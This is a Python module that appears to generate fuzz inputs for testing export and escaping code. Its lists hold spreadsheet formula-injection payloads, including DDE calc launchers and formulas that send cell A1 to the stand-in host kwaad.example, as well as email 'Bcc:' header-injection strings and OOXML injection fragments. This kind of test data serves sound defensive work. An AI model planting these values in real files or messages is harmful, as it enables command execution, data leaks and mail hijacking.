"""Texts that mean no good to what they are written into: classics by hand, and more made of pieces, the same on every run."""

from __future__ import annotations

import random
from collections.abc import Iterator

CLASSICS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=", "-", "{=1+1}",
    "'=1+1", '"=1+1', '"\t=1+1', "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "\ufe661+1",
    ";=1+1", ",=1+1", '";=1+1', ', "=1+1', "x\r\n=1+1", "x\n+1+1", "x\t-1+1", "x;\uff1d1+1",
    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|'/C calc'!A1;\"",
    '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("https://kwaad.example/?"&A1,"klik")', '=WEBSERVICE("https://kwaad.example/"&A1)',
    '=IMPORTXML(CONCAT("https://kwaad.example/",A1),"//a")', '=INFO("osversion")', "=file|'c:\\windows\\win.ini'!A1",
    "https://kwaad.example/", "mailto:evil@kwaad.example", "internal:Cijfers!A1", "external:c:\\kwaad.xlsx", "ftp://kwaad.example",
    "www.kwaad.example", "_x003D_1+1", "_x0000_", "1E5", "0012", "1-2", "TRUE", "#REF!", "+31 6 1234 5678",
    "<r><t>x</t></r>", '<r></r></is></c><c r="Z9"><f>1+1</f></c><c r="Z10" t="inlineStr"><is><r></r>', "<r>&</r>",
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "]]>", "<![CDATA[<f>1+1</f>]]>", "&lt;f&gt;", "&#61;1+1", '<!ENTITY x "y">',
    "Anna de Vriës", "Jan-Willem van 't Hof", "a\r\nBcc: evil@kwaad.example", "=?utf-8?q?=0D=0ABcc:_evil@kwaad.example?=", "",
]  # fmt: skip

PIECES = [
    "\r\n", "\n", "\r", "\0", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\t", "\x1f", "\x7f", " ", "  ", "=?", "?=", "=", "?",
    "=?utf-8?q?=0D=0ABcc:_evil@kwaad.example?=", "=?utf-8?b?DQpCY2M6IGV2aWxAa3dhYWQuZXhhbXBsZQ==?=", "=?utf-8?q?=0A?=",
    "=?us-ascii?q?=00?=", "=?utf-8?q?x", "=?x", "==??utf-8?q?=0A?=", "Bcc: evil@kwaad.example", "Content-Type: text/html",
    "<evil@kwaad.example>", ", evil@kwaad.example", "; ", ";", ",", ":", '"', '\\"', "\\", "(", ")", "(comment", "<", ">", "@",
    ".", "[", "]", "'", "`", "%0a", "&#10;", "é", "ÿ", "Ĳ", "łódź", "Øß", "日本語", "🙂",
    "\u202e", "\u200b", "\ufeff", "\ud800", "\udfff", "\ufffe", "\u00a0", "\u3000",
    "+", "-", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe63", "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0",
    'HYPERLINK("https://kwaad.example")',
    "https://kwaad.example/", "mailto:", "internal:", "<r>", "</r>", "<t>", "</t>", "<f>", "</f>", "</is></c>", "&", "_x003D_",
    "{title}", "{", "}", "%s", "--=_mixed_", "Anna", "van der Berg", "O'Neil", "x" * 80, "y" * 300, "é" * 90, "a b " * 40,
]  # fmt: skip


def texts(count: int) -> Iterator[str]:
    """So many of them; the classics come first."""
    dice = random.Random(20270331)
    yield from CLASSICS[:count]
    for _ in range(count - len(CLASSICS)):
        yield "".join(dice.choice(PIECES) for _ in range(dice.randint(1, 9)))
